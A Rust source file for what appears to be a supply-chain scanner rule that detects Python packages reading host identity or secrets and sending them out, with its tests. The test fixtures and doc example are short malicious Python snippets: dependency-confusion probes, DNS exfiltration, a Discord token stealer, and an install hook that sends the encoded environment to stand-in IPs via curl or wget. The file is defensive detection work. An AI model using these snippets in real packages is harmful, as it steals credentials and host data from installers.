use std::collections::BTreeSet;

use super::vocab::{self, Endpoint, Secret};
use crate::declare_rule;
use crate::inspect::python::Call;
use crate::inspect::rules::{Rule, RuleMeta};
use crate::inspect::{Analysis, Finding, Severity, Stage};

declare_rule! {
    /// ## What it does
    /// Connects sources and sinks the way an analyst would: code that reads
    /// host identity or secrets (environment variables, hostname, user name,
    /// working directory, MAC address; browser, Discord, wallet or credential
    /// files) and sends data over the network (HTTP, sockets, DNS, webhooks).
    /// Where the code runs decides how bad it is: at install time any such
    /// pair is critical; in library code only secrets or a send straight to a
    /// suspicious endpoint are.
    ///
    /// ## Why is this bad?
    /// This is what dependency-confusion probes (hostname + user → attacker),
    /// token grabbers and info-stealers do.
    ///
    /// ## Example
    /// ```python
    /// # setup.py — Error
    /// requests.post("http://198.51.100.7/c", data={"h": socket.gethostname(), "e": dict(os.environ)})
    /// # library — No error: reading an API key and calling the API when asked
    /// def client(): return requests.get(API, headers={"key": os.getenv("API_KEY")})
    /// ```
    ///
    /// ## False positives
    /// Cloud SDKs read credential files and talk to the network; when that
    /// happens only inside functions it is reported as `medium`.
    Exfiltration, id = "exfiltration", severity = Critical,
    summary = "reads host data or secrets and sends them over the network"
}

/// A paste site's upload API (`pastebin.com/api/api_post.php`).
fn a_post_api(call: &Call) -> bool {
    call.arg_strs
        .iter()
        .any(|a| a.contains("/api/api_post") || a.contains("/api/v1/paste") || a.contains("/documents"))
}

fn is_sink(call: &Call) -> bool {
    // A method of a parsed response body (`requests.get(u).json().get("ok")`) reads
    // what came back; it sends nothing.
    if call.name.contains(".json().") {
        return false;
    }
    if vocab::is_network(&call.name) && !call.name.ends_with("Session") || vocab::runs_http_client(call) {
        return true;
    }
    // DNS lookups of a computed name are an exfiltration channel at install time.
    matches!(
        call.name.as_str(),
        "socket.gethostbyname" | "socket.getaddrinfo" | "socket.gethostbyname_ex"
    ) && call.stage == Stage::Install
        && (call.arg_strs.is_empty() || call.arg_refs.iter().any(|r| vocab::is_host_info(r)))
}

impl Rule for Exfiltration {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, analysis: &Analysis, out: &mut Vec<Finding>) {
        for unit in analysis.units() {
            let code = unit.code;
            let sinks: Vec<&Call> = code.calls.iter().filter(|c| is_sink(c)).collect();
            let Some(first_sink) = sinks.first() else { continue };
            // Who and where the host is: (name, scope) pairs.
            let identity: Vec<(&str, u32)> = code
                .calls
                .iter()
                .map(|c| (c.name.as_str(), c.scope))
                .chain(code.refs.iter().map(|r| (r.name.as_str(), r.scope)))
                .filter(|(n, _)| vocab::is_host_identity(n))
                .chain(
                    code.calls
                        .iter()
                        .filter(|c| vocab::dumps_environ(c))
                        .map(|c| ("os.environ", c.scope)),
                )
                .collect();
            let secrets: BTreeSet<Secret> = vocab::strings(code).filter_map(vocab::secret_kind).collect();
            let stealer: BTreeSet<Secret> = secrets.iter().copied().filter(|s| *s != Secret::Credentials).collect();
            let credentials = secrets.contains(&Secret::Credentials);
            let names: BTreeSet<&str> = identity.iter().map(|(n, _)| *n).collect();
            let what = names.iter().take(4).copied().collect::<Vec<_>>().join(", ");
            let describe = |set: &BTreeSet<Secret>| set.iter().map(|s| s.describe()).collect::<Vec<_>>().join(", ");
            let aux = code.role.stage(false) == Stage::Auxiliary;
            // At install time: identity passed to the send, or host/user names read in the
            // same function as the send (a working directory or an environment copy in the
            // same function is what every build script has).
            // A build picks the platform's archive with `os.uname()` before it downloads,
            // and hands a `curl` it runs the environment (`env=os.environ`): only the
            // machine facts sent, or who the host is read in the same function, link.
            let linked = |s: &Call| {
                s.arg_refs.iter().any(|r| vocab::is_host_identity(r))
                    || !vocab::runs_http_client(s) && vocab::dumps_environ(s)
                    || identity.iter().any(|(n, scope)| {
                        *scope == s.scope
                            && !matches!(
                                *n,
                                "os.getcwd" | "os.environ.copy" | "os.environ" | "os.uname" | "platform.uname"
                            )
                    })
            };
            // A `curl` command line written out in full carries nothing the code collected.
            let computed =
                |s: &Call| !vocab::runs_http_client(s) || vocab::first_str(s).is_some_and(|c| c.contains("{}"));
            let install_sink = sinks
                .iter()
                .find(|s| s.stage == Stage::Install && computed(s) && (linked(s) || credentials));
            // The working directory is read on import by every config loader.
            let import_sink = sinks.iter().find(|s| {
                s.stage == Stage::Import
                    && computed(s)
                    && identity
                        .iter()
                        .any(|(n, scope)| (*scope == s.scope || *scope == 0) && *n != "os.getcwd")
            });
            let endpoint_sink = sinks.iter().find_map(|s| {
                s.arg_strs
                    .iter()
                    .find_map(|a| vocab::endpoint_kind(a))
                    // Posting to a paste site is uploading, not fetching.
                    .filter(|e| {
                        e.is_strong() || (*e == Endpoint::Paste && (s.name.ends_with(".post") || a_post_api(s)))
                    })
                    // Cloud SDKs query instance metadata when asked; only install/import time is suspect.
                    .filter(|e| *e != Endpoint::CloudMetadata || s.stage >= Stage::Import)
                    .map(|e| (*s, e))
            });
            // A strong endpoint, host facts and a send in one flow (a function, the
            // functions it calls, module level): not three unrelated statements of a
            // large module (a localhost probe, a docstring naming 169.254.169.254, issue 11).
            let strong_endpoint = sinks.iter().find_map(|s| {
                let flow = code.flow_scopes(s.scope);
                let in_flow =
                    |scope: u32| scope == 0 || scope == s.scope || flow.get(scope as usize).copied().unwrap_or(false);
                // Host facts read by the sending flow itself: a module-level
                // `HOST = socket.gethostname()` of a large module is not sent by
                // every function that makes a request.
                let collected = |scope: u32| scope == s.scope || (scope != 0 && in_flow(scope));
                if !identity.iter().any(|(_, scope)| collected(*scope)) {
                    return None;
                }
                code.strings
                    .iter()
                    .filter(|l| in_flow(l.scope))
                    .filter_map(|l| vocab::endpoint_kind(&l.value))
                    .find(|e| e.is_strong() || *e == Endpoint::RawIp)
                    .map(|e| (*s, e))
            });
            let (severity, sink, message) = if !stealer.is_empty() {
                let sev = if aux { Severity::Medium } else { Severity::Critical };
                (
                    sev,
                    *first_sink,
                    format!("reads {} and sends data with {}()", describe(&stealer), first_sink.name),
                )
            } else if let Some(sink) = install_sink {
                let what = if identity.is_empty() { describe(&secrets) } else { what };
                (
                    Severity::Critical,
                    *sink,
                    format!("collects {what} and sends it with {}() at install time", sink.name),
                )
            } else if let Some(sink) = import_sink {
                // The whole environment, or several identity facts, sent on import is a probe.
                let dump = names.contains("os.environ") || names.contains("os.environ.items") || names.len() >= 2;
                let sev = if dump { Severity::Critical } else { Severity::High };
                (
                    sev,
                    *sink,
                    format!("collects {what} and sends it with {}() on import", sink.name),
                )
            } else if let Some((sink, endpoint)) = endpoint_sink {
                let sev = match sink.stage {
                    // Asking the metadata service on import is what cloud SDKs do to
                    // learn where they run: a read of machine credentials, not yet a
                    // send of them anywhere (that flow is its own finding).
                    Stage::Import if endpoint == Endpoint::CloudMetadata => Severity::High,
                    Stage::Install | Stage::Import => Severity::Critical,
                    // A library fetching from a bot API (`getMe` to check a token it
                    // was handed) carries nothing out; posting or `sendMessage` does.
                    Stage::Call if !carries_data(sink) => Severity::Medium,
                    // A bot or webhook whose credentials the user configures (`bot{TOKEN}` read
                    // from the environment) is the user's own channel; a stealer carries its
                    // own to reach its operator.
                    Stage::Call if endpoint == Endpoint::Webhook && credentials_configured(code, sink) => {
                        Severity::Medium
                    }
                    Stage::Call => Severity::High,
                    Stage::Auxiliary => Severity::Low,
                };
                (
                    sev,
                    sink,
                    format!(
                        "sends data with {}() to {} {}",
                        sink.name,
                        endpoint.describe(),
                        sink.stage.describe()
                    ),
                )
            } else if let Some((sink, endpoint)) = strong_endpoint {
                let sev = if aux { Severity::Low } else { Severity::High };
                let message = format!(
                    "collects {what} and sends it with {}() to {} {}",
                    sink.name,
                    endpoint.describe(),
                    sink.stage.describe()
                );
                (sev, sink, message)
            } else if let Some((sink, host)) = env_to_untrusted(code, &sinks, &identity) {
                let message = format!(
                    "collects the whole environment and sends it with {}() to {host} {}",
                    sink.name,
                    sink.stage.describe()
                );
                let sev = if aux { Severity::Low } else { Severity::High };
                (sev, sink, message)
            } else if credentials {
                let message = format!(
                    "reads {} and uses the network ({}())",
                    describe(&secrets),
                    first_sink.name
                );
                (Severity::Low, *first_sink, message)
            } else {
                continue;
            };
            out.push(unit.finding(Self::META.id, severity, sink.line, message).at(sink.stage));
        }
    }
}

/// A send in the same function as a dump of `os.environ`, to a host no
/// project service lives on (free hosting, throw-away domains…).
fn env_to_untrusted<'c>(
    code: &'c crate::inspect::python::PyFile,
    sinks: &[&'c Call],
    identity: &[(&str, u32)],
) -> Option<(&'c Call, &'static str)> {
    sinks.iter().find_map(|s| {
        let dump = vocab::dumps_environ(s)
            || identity.iter().any(|(n, scope)| {
                *scope == s.scope && matches!(*n, "os.environ.items" | "os.environ.values" | "os.environ")
            });
        if !dump {
            return None;
        }
        vocab::untrusted_destination(code, s).map(|h| (*s, h))
    })
}

/// A bot API or webhook URL whose credential part is not in the code
/// (`https://api.telegram.org/bot{}/sendMessage`, `…/api/webhooks/{}`), in a
/// module that reads its configuration from the environment.
fn credentials_configured(code: &crate::inspect::python::PyFile, sink: &Call) -> bool {
    let reads_environment = code
        .calls
        .iter()
        .map(|c| c.name.as_str())
        .chain(code.refs.iter().map(|r| r.name.as_str()))
        .any(|n| matches!(n, "os.getenv" | "os.environ.get") || n.starts_with("os.environ["));
    if !reads_environment {
        return false;
    }
    let urls: Vec<&String> = sink
        .arg_strs
        .iter()
        .filter(|a| vocab::endpoint_kind(a) == Some(Endpoint::Webhook))
        .collect();
    !urls.is_empty()
        && urls.iter().all(|a| {
            let l = a.to_ascii_lowercase();
            ["/bot{}", "/webhooks/{}", "hooks.slack.com/services/{}"]
                .iter()
                .any(|p| l.contains(p))
        })
}

/// Whether a request to an endpoint takes data with it: a send (`post`,
/// `sendall`), a bot method that sends (`…/sendMessage?text=…`), or a query.
fn carries_data(sink: &Call) -> bool {
    vocab::is_send(&sink.name)
        || sink.arg_strs.iter().any(|a| {
            let l = a.to_ascii_lowercase();
            l.contains("/send") || l.contains("?") || l.contains("webhook")
        })
        || !sink.arg_refs.is_empty()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::archive::Kind;
    use crate::inspect::testing::{check, setup_py};

    #[test]
    fn fires_on() {
        // Error: dependency-confusion probe in setup.py.
        let f = setup_py(
            &Exfiltration,
            "import socket, getpass, requests\nrequests.get('http://198.51.100.7/', params={'h': socket.gethostname(), 'u': getpass.getuser()})\n",
        );
        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical));
        // Error: DNS exfiltration.
        let f = setup_py(
            &Exfiltration,
            "import socket, os\nsocket.gethostbyname(os.getlogin() + '.x.example')\n",
        );
        assert_eq!(f.len(), 1);
        // Error: stealer in a library function.
        let f = check(
            &Exfiltration,
            Kind::Wheel,
            &[("pkg/core.py", "import requests, os\ndef go():\n    p = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n    requests.post(HOOK, data=open(p).read())\n")],
        );
        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical));
    }

    #[test]
    fn a_curl_run_at_install_is_a_send() {
        // Error: the environment walked and handed to curl in an install hook.
        let src = "import os, base64, subprocess\nfrom setuptools.command.install import install\ndef steal():\n    env = {}\n    for k, v in os.environ.items():\n        env[k] = v\n    env = base64.b64encode(str(env).encode()).decode()\n    subprocess.check_output(['curl', f'http://192.0.2.7/?e={env}'])\nclass I(install):\n    def run(self):\n        install.run(self)\n        steal()\nsetup(cmdclass={'install': I})\n";
        let f = setup_py(&Exfiltration, src);
        assert_eq!(f.iter().map(|f| f.severity).max(), Some(Severity::Critical), "{f:?}");
        // Error: the user name in a wget command line.
        let f = setup_py(
            &Exfiltration,
            "import os, getpass\nos.system('wget -q http://192.0.2.7/?u=' + getpass.getuser())\n",
        );
        assert_eq!(f.iter().map(|f| f.severity).max(), Some(Severity::Critical), "{f:?}");
        // No error: a literal download next to a walk of the environment.
        let src = "import os, subprocess\ndef build():\n    env = {k: v for k, v in os.environ.items() if k != 'X'}\n    subprocess.check_call(['curl', '-L', '-o', 'lib.tgz', 'https://example.org/lib.tgz'], env=env)\nbuild()\n";
        assert!(setup_py(&Exfiltration, src).is_empty());
        // No error: a build fetching the toolchain for this platform with curl, the
        // environment passed along to the process.
        let src = "import os, subprocess\ndef fetch():\n    arch = os.uname().machine\n    subprocess.check_call(['curl', '-fsSLo', 'tc.tgz', f'https://example.org/tc-{arch}.tgz'], env=dict(os.environ))\nfetch()\n";
        let f = setup_py(&Exfiltration, src);
        assert!(f.is_empty(), "{f:?}");
    }

    #[test]
    fn fires_on_environment_sent_to_free_hosting() {
        let f = check(
            &Exfiltration,
            Kind::Wheel,
            &[("pkg/ctx.py", "import requests, base64\nfrom os import environ\ndef send():\n    s = ''\n    for _, v in environ.items():\n        s += v\n    requests.get('https://a.herokuapp.com/x/' + base64.b64encode(s.encode()).decode())\n")],
        );
        assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
    }

    #[test]
    fn quiet_on_local_sockets_and_platform_checks() {
        // No error (held-out pop-f): a Discord RPC client connecting to the app's
        // local IPC socket, whose folder names the Discord app.
        let src = "import socket\ndef test(path):\n    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:\n        client.connect(path)\ndef paths():\n    return ['snap.discord', 'app/com.discordapp.DiscordCanary']\n";
        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/utils.py", src)]);
        assert!(f.iter().all(|f| f.severity < Severity::High), "{f:?}");
        // Error: the same client over TCP.
        let tcp = src.replace("socket.AF_UNIX, ", "");
        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/utils.py", &tcp)]);
        assert!(f.iter().any(|f| f.severity == Severity::Critical), "{f:?}");
        // No error at critical (held-out pop-f): setup.py picking the driver archive
        // for `os.uname()[4]` and downloading it from the vendor.
        let src = "import os, urllib.request\narch = 'x64' if '86' in os.uname()[4] else 'arm64'\nurllib.request.urlopen('https://vendor.example.com/driver-' + arch + '.tgz')\n";
        let f = setup_py(&Exfiltration, src);
        assert!(f.iter().all(|f| f.severity < Severity::Critical), "{f:?}");
        // Error: the uname sent.
        let src = "import os, urllib.request\nurllib.request.urlopen('https://x.example/?u=' + str(os.uname()))\n";
        let f = setup_py(&Exfiltration, src);
        assert!(f.iter().any(|f| f.severity == Severity::Critical), "{f:?}");
    }

    #[test]
    fn quiet_on() {
        // No error: API client reading its key from the environment.
        let f = check(
            &Exfiltration,
            Kind::Wheel,
            &[("pkg/client.py", "import os, requests\ndef call():\n    return requests.get('https://api.example.com', headers={'k': os.getenv('API_KEY')})\n")],
        );
        assert!(f.is_empty(), "{f:?}");
        // No error: setup.py reading an env var without network.
        assert!(setup_py(&Exfiltration, "import os\nif os.environ.get('CUDA_HOME'): pass\n").is_empty());
        // No error (issue 11): a localhost probe, the host name read elsewhere and a
        // docstring naming the metadata address, in three unrelated functions.
        let src = "import socket, os\ndef probe():\n    s = socket.socket()\n    return s.connect_ex(('127.0.0.1', 18789))\ndef me():\n    return socket.gethostname(), os.getcwd()\ndef guard_url(u):\n    \"\"\"Refuse http://169.254.169.254/ (SSRF).\"\"\"\n    return u\n";
        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/dash.py", src)]);
        assert!(f.iter().all(|f| f.severity < Severity::High), "{f:?}");
        // No error: a host name read at module level, a bot URL and a request elsewhere.
        let src = "import socket, requests\nHOST = socket.gethostname()\nBOT = 'https://api.telegram.org/bot{}/sendMessage'\ndef status():\n    return requests.get('https://api.example.com/status').json().get('ok')\n";
        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/dash.py", src)]);
        assert!(f.iter().all(|f| f.severity < Severity::High), "{f:?}");
        // No error: a lookup in a parsed response body is no send of its own.
        let src = "import socket, json\ndef load(data):\n    h = socket.gethostname()\n    u = 'https://api.telegram.org/bot'\n    return data.get(h), u\ndef fetch():\n    import requests\n    data = requests.get('https://api.example.com/s').json()\n    return data\n";
        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/dash.py", src)]);
        assert!(f.iter().all(|f| !f.message.contains("json()")), "{f:?}");
        // Error: the same facts in one function.
        let src = "import socket\ndef probe():\n    h = socket.gethostname()\n    s = socket.socket()\n    s.connect(('169.254.169.254', 80))\n    s.send(h.encode())\n";
        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/dash.py", src)]);
        assert!(f.iter().any(|f| f.severity >= Severity::High), "{f:?}");
    }

    #[test]
    fn a_bot_api_fetch_carrying_nothing_is_a_note_when_called() {
        use crate::archive::Kind;
        // No error: a secrets scanner checking a token it found with `getMe`.
        let verify = "import requests\ndef verify(secret):\n    return requests.get('https://api.telegram.org/bot{}/getMe'.format(secret))\n";
        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/plugins/telegram.py", verify)]);
        assert!(f.iter().all(|f| f.severity <= Severity::Medium), "{f:?}");
        // Error: sending a message (data) to a bot, or posting to a webhook.
        let send = "import requests\ndef report(text):\n    requests.get(f'https://api.telegram.org/bot{T}/sendMessage?chat_id=1&text={text}')\n";
        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/util.py", send)]);
        assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
        let post =
            "import requests\ndef report(d):\n    requests.post('https://discord.com/api/webhooks/1/x', json=d)\n";
        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/util.py", post)]);
        assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
    }

    #[test]
    fn a_bot_the_user_configures_is_a_note_when_called() {
        // No error (held-out lt-f): notifications to the user's own bot, token from the environment.
        let src = "import os, requests\nTOKEN = os.getenv('TELEGRAM_BOT_TOKEN')\ndef note(m):\n    url = f'https://api.telegram.org/bot{TOKEN}/sendMessage'\n    requests.post(url, json={'chat_id': 1, 'text': m})\n";
        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/run.py", src)]);
        assert_eq!(f.iter().map(|f| f.severity).max(), Some(Severity::Medium), "{f:?}");
        // Error: the bot's token is in the code: the operator's channel.
        let own = src.replace("os.getenv('TELEGRAM_BOT_TOKEN')", "'123456:AAbbCCdd'");
        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/run.py", &own)]);
        assert_eq!(f.iter().map(|f| f.severity).max(), Some(Severity::High), "{f:?}");
    }

    #[test]
    fn the_metadata_service_asked_on_import_is_review_and_at_install_deny() {
        let src = "import requests
r = requests.get('http://metadata.google.internal/computeMetadata/v1/instance/attributes/x', headers={'Metadata-Flavor': 'Google'})
";
        // No error: a cloud SDK learning where it runs, on import: high (review), not critical.
        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/tpu_info.py", src)]);
        assert_eq!(f.iter().map(|f| f.severity).max(), Some(Severity::High), "{f:?}");
        // Error: the same request in setup.py, at install time.
        let f = setup_py(&Exfiltration, src);
        assert_eq!(f.iter().map(|f| f.severity).max(), Some(Severity::Critical), "{f:?}");
    }
}
